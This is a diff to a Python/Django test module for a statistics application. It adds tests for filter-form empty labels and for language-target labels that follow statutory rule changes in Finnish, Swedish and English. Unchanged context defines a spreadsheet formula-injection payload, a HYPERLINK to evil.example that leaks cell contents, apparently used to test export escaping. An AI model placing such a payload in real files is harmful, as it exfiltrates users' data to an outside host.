@@ -1,14 +1,18 @@
 import csv
 import io
+from datetime import date
 
 import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
+from django.utils import translation
 from openpyxl import load_workbook
 
 from kotopolku.audit.models import AuditEvent
 from kotopolku.common.exports import csv_bytes, escape_formula, xlsx_bytes
 from kotopolku.organisations.models import Organisation
+from kotopolku.rules.models import StatutoryRule
+from kotopolku.statistics.selectors import INDICATORS
 from kotopolku.statistics.tests.factories import build_year, municipality
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Avaa")'
@@ -156,3 +160,53 @@ def test_monitoring_list_search_and_empty_state(demo, client_for):
     none = coordinator.get("/statistics/monitoring/?q=ei-mitaan-tallaista")
     assert list(none.context["page"].object_list) == []
     assert "empty-state" in none.content.decode()
+
+
+def test_filters_offer_a_real_empty_choice(demo, client_for):
+    page = client_for("viewer").get("/statistics/?period=2025").content.decode()
+    assert "---------" not in page
+    assert "Kaikki kunnat" in page
+    assert "Kaikki organisaatiot" in page
+    with translation.override("sv"):
+        from kotopolku.statistics.forms import FilterForm
+
+        form = FilterForm()
+        assert str(form.fields["municipality"].empty_label) == "Alla kommuner"
+        assert str(form.fields["organisation"].empty_label) == "Alla organisationer"
+
+
+def test_the_language_target_labels_follow_the_rule(year, client_for):
+    viewer = client_for("viewer")
+    page = viewer.get("/statistics/?period=2025").content.decode()
+    assert "Kielitavoite B1.1 päättötestissä" in page
+    # An administrator raises the target from 2025 on: no label still says B1.1.
+    StatutoryRule.objects.filter(key="language_target_level").update(
+        effective_to=date(2024, 12, 31)
+    )
+    StatutoryRule.objects.create(
+        key="language_target_level",
+        code="P8",
+        value="B1.2",
+        unit="cefr",
+        effective_from=date(2025, 1, 1),
+        source="test",
+        confidence="U",
+    )
+    page = viewer.get("/statistics/?period=2025").content.decode()
+    assert "Kielitavoite B1.2 päättötestissä" in page
+    assert "Kielitavoite B1.1" not in page
+    with translation.override("fi"):
+        assert str(INDICATORS["language_target_share"].label) == (
+            "B1.2-tason saavuttaneiden osuus kaikissa testatuissa osataidoissa"
+        )
+    with translation.override("sv"):
+        assert str(INDICATORS["language_target_share"].label) == (
+            "andel som når B1.2 i alla testade delfärdigheter"
+        )
+        assert str(INDICATORS["language_target_share_speaking"].label).startswith(
+            "andel som når B1.2: "
+        )
+    with translation.override("en"):
+        assert str(INDICATORS["language_target_share"].label) == (
+            "share meeting B1.2 in every tested skill"
+        )
